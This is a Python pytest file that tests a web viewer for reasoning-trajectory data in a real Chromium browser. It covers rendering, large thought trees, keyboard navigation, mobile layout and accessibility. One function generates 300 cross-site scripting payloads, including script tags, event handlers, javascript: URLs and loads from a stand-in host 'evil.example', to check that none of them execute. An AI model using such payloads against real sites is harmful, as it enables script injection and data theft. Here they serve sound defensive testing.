"""The pages in a real browser: every strategy, a tree of 2,000 thoughts, hostile texts, accessibility. Skipped where there is no Chromium."""

from __future__ import annotations

import asyncio
import os
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from browser import CHROMIUM, DRIVER, open_browser, requests
from loopback import TOKEN, Loopback
from stores import fill, grow

from reasoner.serve.app import application
from reasoner.serve.report import write_report
from reasoner.serve.settings import Settings
from reasoner.serve.viewer import Viewer
from reasoner.store import Store

pytestmark = pytest.mark.skipif(
    not (CHROMIUM and DRIVER), reason="needs chromium and chromedriver (Debian: apt-get install chromium chromium-driver)"
)
AXE = Path(__file__).with_name("axe.min.js")
N_PAYLOADS = 300
SETTINGS = Settings(TOKEN)


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with open_browser() as driver:
        yield driver


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Store, str]]:
    db = tmp_path_factory.mktemp("site") / "s.db"
    asyncio.run(fill(db))
    with Store.open(db) as store, Loopback(application(store, SETTINGS, pages=Viewer(store, SETTINGS).routes())) as server:
        yield store, f"{server.url}/view/{SETTINGS.page_key}"


def wait(condition: Callable[[], Any], seconds: float = 10) -> Any:
    end = time.monotonic() + seconds
    while not (found := condition()):
        assert time.monotonic() < end, "it did not come about"
        time.sleep(0.02)
    return found


def clean(browser: Any, base: str) -> None:
    """Nothing was complained of, and nothing was asked of anybody else."""
    severe = [entry for entry in browser.get_log("browser") if entry["level"] in {"SEVERE", "WARNING"}]
    assert not severe
    origin = base.split("/view/", maxsplit=1)[0]
    outside = [url for url in requests(browser) if not url.startswith((origin, "data:", "about:", "chrome:"))]
    assert not outside


def serious(browser: Any) -> list[Any]:
    """Return what axe-core calls serious or critical."""
    browser.execute_cdp_cmd("Page.setBypassCSP", {"enabled": True})
    found = browser.execute_async_script(AXE.read_text(encoding="utf-8") + ";const done=arguments[0];axe.run().then(done);")
    return [(v["id"], [n["html"][:150] for n in v["nodes"][:3]]) for v in found["violations"] if v["impact"] in {"serious", "critical"}]


def pages(store: Store) -> list[str]:
    found = ["/", "/?q=ats&status=finished", "/requests", "/search", "/search?q=pour", "/nothing-here"]
    found += [f"/run/{row['id']}" for row in store.rows("SELECT id FROM runs")]
    one_each = store.rows("SELECT min(t.id) AS id FROM trajectories t JOIN problems p ON p.id = t.problem_id GROUP BY t.strategy, p.solver")
    found += [f"/t/{row['id']}" for row in one_each]
    found += [f"/t/{one_each[0]['id']}?view={view}" for view in ("timeline", "transcript")]
    two = store.rows("SELECT min(id) AS a, max(id) AS b FROM trajectories GROUP BY problem_id HAVING count(*) > 1 LIMIT 1")
    return [*found, *(f"/pair?a={row['a']}&b={row['b']}" for row in two)]


def test_every_page_opens_with_every_strategy(browser: Any, site: tuple[Store, str]) -> None:
    store, base = site
    opened = [page for page in pages(store) if page != "/nothing-here"]
    assert len(opened) > 30
    for page in opened:
        browser.get(base + page)
        assert browser.find_element("css selector", "h1").text
        if page.startswith("/t/") and "?" not in page:
            (row,) = store.rows("SELECT count(*) AS n FROM thoughts WHERE trajectory_id = ?", (page[3:],))
            assert len(browser.find_elements("css selector", ".tree .node")) == row["n"], page
            (edges,) = store.rows(
                "SELECT count(*) AS n FROM thought_edges e JOIN thoughts t ON t.id = e.child WHERE t.trajectory_id = ?", (page[3:],)
            )
            assert len(browser.find_elements("css selector", ".tree .edge")) == edges["n"]
    clean(browser, base)


def test_what_can_be_drawn_is_drawn(browser: Any, site: tuple[Store, str]) -> None:
    store, base = site
    wanted = [
        ("cot", "drop_water", ".glass"), ("cot", "number_path", ".stop"), ("cot", "mini_crossword", ".crossword .right"), ("iot", "number_path", ".talk .guide"),
        ("fragment_shot", "translation", ".sentence mark"),
    ]  # fmt: skip
    for strategy, solver, selector in wanted:
        row = store.row(
            "SELECT t.id FROM trajectories t JOIN problems p ON p.id = t.problem_id WHERE t.strategy = ? AND p.solver = ?",
            (strategy, solver),
        )
        assert row is not None
        browser.get(f"{base}/t/{row['id']}")
        assert browser.find_elements("css selector", selector), (strategy, solver)
    run = store.row("SELECT id FROM runs WHERE manifest LIKE '%drop_water%'")
    assert run is not None
    browser.get(f"{base}/run/{run['id']}")
    assert len(browser.find_elements("css selector", ".chart .mark")) == 9
    assert "Paired differences" in browser.page_source


def test_a_tree_of_two_thousand_thoughts_is_clicked_through(browser: Any, site: tuple[Store, str], tmp_path: Path) -> None:
    store, base = site
    found = grow(store.path, 2000)
    browser.get(f"{base}/t/{found}")
    nodes = browser.find_elements("css selector", ".tree .node")
    (row,) = store.rows("SELECT count(*) AS n FROM thoughts WHERE trajectory_id = ?", (found,))
    assert len(nodes) == row["n"] == 2000
    statuses = {
        r["status"]: r["n"]
        for r in store.rows("SELECT status, count(*) AS n FROM thoughts WHERE trajectory_id = ? GROUP BY status", (found,))
    }
    for status, n in statuses.items():
        assert len(browser.find_elements("css selector", f".tree .node.{status}")) == n
    browser.execute_script("document.querySelector('[data-do=all]').click()")
    # Thoughts are clicked (all of them in the full tier), and what each opens is what the database has.
    step = 1 if os.environ.get("REASONER_FULL") else 40
    browser.set_script_timeout(100)
    shown = browser.execute_async_script(
        """const done = arguments[1], panel = document.getElementById("panel");
        const step = arguments[0];
        (async () => {
          const seen = {};
          const every = [...document.querySelectorAll(".tree .node")].filter((_, index) => index % step === 0);
          for (const node of every) {
            node.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
            while (panel.dataset.thought !== node.dataset.id) await new Promise((go) => setTimeout(go, 1));
            seen[node.dataset.id] = [...panel.querySelectorAll("pre")].map((one) => one.textContent);
          }
          done(seen);
        })();""",
        step,
    )
    assert len(shown) == 2000 // step
    texts = {
        r["id"]: r["text"]
        for r in store.rows(
            "SELECT t.id, coalesce(t.text, m.content) AS text FROM thoughts t LEFT JOIN messages m ON m.id = t.message_id WHERE t.trajectory_id = ?",
            (found,),
        )
    }
    assert set(shown) <= set(texts)
    assert all(texts[key] in seen for key, seen in shown.items())
    # Folding hides the branch, and unfolding brings it back.
    first = browser.execute_script("return document.querySelectorAll('.tree .node')[1].dataset.id")
    fold = f"document.querySelector('.node[data-id=\"{first}\"]').dispatchEvent(new KeyboardEvent('keydown', {{key: 'f', bubbles: true}}))"
    visible = "return [...document.querySelectorAll('.tree .node')].filter((one) => one.style.display !== 'none').length"
    browser.execute_script(fold)
    assert browser.execute_script(visible) == 2
    browser.execute_script(fold)
    assert browser.execute_script(visible) == 2000
    clean(browser, base)


def test_a_big_tree_opens_with_the_way_to_the_answer(browser: Any, site: tuple[Store, str]) -> None:
    store, base = site
    found = grow(store.path, 400, label="folded")
    browser.get(f"{base}/t/{found}")
    visible = "return [...document.querySelectorAll('.tree .node')].filter((one) => one.style.display !== 'none').length"
    best = browser.execute_script("return [...document.querySelectorAll('.tree .node.best')].map((one) => one.getBoundingClientRect().top)")
    assert len(best) > 3
    assert len(set(best)) == 1, "it is one straight line"
    assert len(best) <= browser.execute_script(visible) <= 6 * len(best)
    answer = store.rows("SELECT answer_thought AS id FROM trajectories WHERE id = ?", (found,))[0]["id"]
    assert browser.find_element("id", "panel").get_attribute("data-thought") == answer
    small = browser.execute_script(
        "const scale = document.querySelector('.tree').getScreenCTM().a; return [...document.querySelectorAll('main *')]"
        ".filter((one) => one.checkVisibility() && [...one.childNodes].some((node) => node.nodeType === 3 && node.data.trim()))"
        ".map((one) => parseFloat(getComputedStyle(one).fontSize) * (one.closest('.tree') ? scale : 1)).filter((size) => size < 12)"
    )
    assert not small, "text has at least 12 pixels at the first look"
    assert browser.find_elements("css selector", ".map")
    # What is chosen is drawn, also from the list above the tree.
    browser.execute_script("document.querySelector('[data-do=all]').click()")
    assert browser.execute_script(visible) == 400
    first = browser.find_element("css selector", "[data-pick]")
    first.click()
    wait(lambda: browser.find_element("id", "panel").get_attribute("data-thought") == first.get_attribute("data-pick"))
    clean(browser, base)


def test_nothing_overflows_on_a_telephone(browser: Any, site: tuple[Store, str]) -> None:
    store, base = site
    browser.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", {"width": 390, "height": 844, "deviceScaleFactor": 1, "mobile": True})
    try:
        for page in [page for page in pages(store) if page != "/nothing-here"][:14]:
            browser.get(base + page)
            wide = browser.execute_script(
                "return [...document.querySelectorAll('body *')].filter((one) => one.getBoundingClientRect().right > 391"
                " && !one.closest('.scroll, svg, .stage, pre, .skip')).map((one) => one.outerHTML.slice(0, 80))"
            )
            assert not wide, page
            assert browser.execute_script("return document.documentElement.scrollWidth") <= 390, page
    finally:
        browser.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})


def test_the_tree_is_walked_by_keys(browser: Any, site: tuple[Store, str]) -> None:
    from selenium.webdriver.common.keys import Keys

    store, base = site
    row = store.row("SELECT id FROM trajectories WHERE strategy = 'ats' LIMIT 1")
    assert row is not None
    browser.get(f"{base}/t/{row['id']}")
    root = browser.find_element("css selector", ".node")
    root.send_keys(Keys.ARROW_RIGHT)
    second = browser.switch_to.active_element
    assert second.get_attribute("data-parent") == root.get_attribute("data-id")
    second.send_keys(Keys.ENTER)
    wait(lambda: browser.find_element("id", "panel").get_attribute("data-thought") == second.get_attribute("data-id"))
    assert browser.find_element("id", "panel").find_elements("css selector", "pre")


def test_a_running_trajectory_grows_on_its_page(browser: Any, site: tuple[Store, str]) -> None:
    store, base = site
    found = grow(store.path, 20, label="live")
    store.write_now(lambda c: c.execute("UPDATE trajectories SET status = 'open' WHERE id = ?", (found,)))
    browser.get(f"{base}/t/{found}")
    assert len(browser.find_elements("css selector", ".node")) == 20
    parent = store.rows("SELECT id FROM thoughts WHERE trajectory_id = ? ORDER BY position DESC LIMIT 1", (found,))[0]["id"]

    def more(c: Any) -> None:
        c.execute(
            "INSERT INTO thoughts (id, trajectory_id, position, ordinal, role, label, operation, text, status, depth)"
            " VALUES ('new', ?, 99, 0, 'x/step', '', '<b>new</b>', 'new', 'open', 9)", (found,),
        )  # fmt: skip
        c.execute("INSERT INTO thought_edges VALUES (?, 'new')", (parent,))

    store.write_now(more)
    wait(lambda: len(browser.find_elements("css selector", ".node")) == 21)
    assert "<b>new</b>" in (browser.find_element("css selector", '.node[data-id="new"]').get_attribute("textContent") or "")
    store.write_now(lambda c: c.execute("UPDATE trajectories SET status = 'closed' WHERE id = ?", (found,)))
    wait(lambda: browser.find_element("id", "live").text == "closed")
    clean(browser, base)


def payloads() -> list[str]:
    """300 ways to run a script, each of which would say so in `window.pwned`, or ask another address for a picture."""
    act = "window.pwned=1"
    heads = [
        "",
        '"',
        "'",
        "`",
        "-->",
        "]]>",
        "</text>",
        "</svg>",
        "</script>",
        "</style>",
        "</title>",
        "</pre>",
        "</textarea>",
        '">',
        "'>",
        "{{7*7}}",
        "\\",
        "\u2028",
        "\x00",
        "</a>",
    ]
    bodies = [
        f"<script>{act}</script>", f"<img src=x onerror={act}>", f"<svg onload={act}>", f"<svg><animate onbegin={act} attributeName=x>", f"<a href=javascript:{act}>x</a>",
        f"<iframe srcdoc='<script>parent.{act}</script>'>", f"<body onload={act}>", f"<details open ontoggle={act}>", f"<math><mtext></mtext><img src onerror={act}>",
        f"<input autofocus onfocus={act}>", f"<object data=javascript:{act}>", "<img src=http://evil.example/x.png>", "![x](http://evil.example/y.png)", f" onmouseover={act} autofocus onfocus={act} ",
        f"<style>@import 'http://evil.example/z.css';</style><script src=//evil.example/{act}></script>",
    ]  # fmt: skip
    return [head + body for head in heads for body in bodies]


def test_no_payload_in_any_field_is_executed(browser: Any, tmp_path: Path) -> None:
    texts = payloads()
    assert len(texts) == N_PAYLOADS
    db = tmp_path / "x.db"
    found = grow(db, N_PAYLOADS + 2, texts, label=texts[0], model=texts[1])
    with Store.open(db) as store:

        def poison(c: Any) -> None:
            c.execute("UPDATE trajectories SET error = ?, answer = ?, params = ?", (texts[2], "Answer: " + texts[3], "{}"))
            c.execute("UPDATE problems SET line = ?", (texts[4],))
            c.execute("UPDATE runs SET command = ?, version = ?", (texts[5], texts[6]))
            c.execute("UPDATE verdicts SET reason = ?", (texts[7],))
            c.execute("UPDATE calls SET model = ?, finish_reason = ?, error = ?", tuple(texts[8:11]))
            c.execute("UPDATE call_settings SET constraint_requested = ?, sampling = ?", tuple(texts[11:13]))

        store.write_now(poison)
        run = store.rows("SELECT id FROM runs")[0]["id"]
        report = tmp_path / "report.html"
        write_report(store, run, report)
        with Loopback(application(store, SETTINGS, pages=Viewer(store, SETTINGS).routes())) as server:
            base = f"{server.url}/view/{SETTINGS.page_key}"
            ids = [row["id"] for row in store.rows("SELECT id FROM thoughts WHERE trajectory_id = ? ORDER BY position", (found,))]
            opened = [
                "/",
                f"/?q={texts[0]}",
                f"/run/{run}?baseline={texts[1]}",
                f"/t/{found}",
                f"/pair?a={found}&b={found}",
                "/search?q=script",
                f"/search?q={texts[20]}",
            ]
            opened += [f"/t/{found}/thought/{one}" for one in ids[::10]]
            addresses = [base + page for page in opened] + [report.as_uri()]
            requests(browser)
            for address in addresses:
                browser.get(address)
                assert browser.execute_script("return window.pwned === undefined"), address
                assert not browser.find_elements("css selector", "iframe, object, embed, img, [onload], [onerror]"), address
            browser.get(f"{base}/t/{found}")
            browser.set_script_timeout(100)
            alive = browser.execute_async_script(
                """const done = arguments[0], panel = document.getElementById("panel");
                (async () => { for (const node of [...document.querySelectorAll(".tree .node")].filter((_, index) => index % 3 === 0)) {
                  node.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
                  while (panel.dataset.thought !== node.dataset.id) await new Promise((go) => setTimeout(go, 1));
                } done(window.pwned === undefined); })();"""
            )
            assert alive
            outside = [url for url in requests(browser) if not url.startswith((server.url, "data:", "about:", "chrome:", "file:"))]
            assert not outside


def test_no_page_has_a_serious_fault_of_accessibility(browser: Any, site: tuple[Store, str], tmp_path: Path) -> None:
    store, base = site
    report = tmp_path / "report.html"
    run = store.rows("SELECT id FROM runs WHERE manifest LIKE '%number_path%' LIMIT 1")[0]["id"]
    write_report(store, run, report, limit=4)
    every = [base + page for page in pages(store) if page != "/nothing-here"]
    chosen = every if os.environ.get("REASONER_FULL") else every[:14:2] + every[14::7] + every[-1:]
    faults = {}
    for theme in ("light", "dark"):
        browser.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": [{"name": "prefers-color-scheme", "value": theme}]})
        for address in [*chosen, report.as_uri()]:
            browser.get(address)
            if found := serious(browser):
                faults[theme, address.removeprefix(base)] = found
    browser.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": []})
    browser.execute_cdp_cmd("Page.setBypassCSP", {"enabled": False})
    assert not faults


def test_the_report_is_whole_and_asks_for_nothing(browser: Any, site: tuple[Store, str], tmp_path: Path) -> None:
    store, _ = site
    run = store.rows("SELECT id FROM runs WHERE manifest LIKE '%drop_water%'")[0]["id"]
    n = write_report(store, run, tmp_path / "report.html")
    requests(browser)
    browser.get((tmp_path / "report.html").as_uri())
    (row,) = store.rows("SELECT count(*) AS n FROM trajectories WHERE run_id = ?", (run,))
    assert n == row["n"]
    (thoughts,) = store.rows(
        "SELECT count(*) AS n FROM thoughts t JOIN trajectories r ON r.id = t.trajectory_id WHERE r.run_id = ?", (run,)
    )
    assert (
        len(browser.find_elements("css selector", ".tree .node"))
        == thoughts["n"]
        == len(browser.find_elements("css selector", "details.thought"))
    )
    assert all(url.startswith(("file:", "data:")) for url in requests(browser))
    assert not [entry for entry in browser.get_log("browser") if entry["level"] == "SEVERE"]
    assert "<script" not in (tmp_path / "report.html").read_text(encoding="utf-8").split("</head>")[0]
